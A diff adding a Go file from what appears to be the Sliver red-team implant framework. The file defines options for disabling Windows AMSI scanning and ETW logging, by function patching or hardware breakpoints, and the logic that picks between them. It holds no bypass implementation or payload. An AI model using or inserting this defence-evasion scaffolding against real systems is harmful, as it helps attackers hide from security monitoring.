@@ -0,0 +1,70 @@
+package taskrunner
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"errors"
+)
+
+const (
+	// BypassPatch - Overwrite the start of the AMSI scan functions and EtwEventWrite so
+	// they return immediately
+	BypassPatch = "patch"
+	// BypassHardwareBreakpoint - Break on AmsiScanBuffer and EtwEventWrite with the debug
+	// registers and return from them in an exception handler, no code is modified
+	BypassHardwareBreakpoint = "hwbp"
+)
+
+var (
+	// ErrUnknownBypass - The implant doesn't know the bypass technique
+	ErrUnknownBypass = errors.New("unknown bypass technique")
+	// ErrBypassUnsupported - The technique can't be used in the process or on this architecture
+	ErrBypassUnsupported = errors.New("bypass technique is not supported here")
+
+	// What the implant was built with, used in addition to what a task asks for
+	defaultAmsiBypass = `{{.Config.AmsiBypass}}` == "true"
+	defaultEtwBypass  = `{{.Config.EtwBypass}}` == "true"
+	defaultBypass     = `{{.Config.BypassTechnique}}`
+)
+
+// Bypass - What to disable in a process before loading the CLR or a BOF
+type Bypass struct {
+	Amsi      bool
+	Etw       bool
+	Technique string
+}
+
+func (b Bypass) amsi() bool {
+	return b.Amsi || defaultAmsiBypass
+}
+
+func (b Bypass) etw() bool {
+	return b.Etw || defaultEtwBypass
+}
+
+// technique - The task's technique, or the implant's default
+func (b Bypass) technique() string {
+	if b.Technique != "" {
+		return b.Technique
+	}
+	if defaultBypass != "" {
+		return defaultBypass
+	}
+	return BypassPatch
+}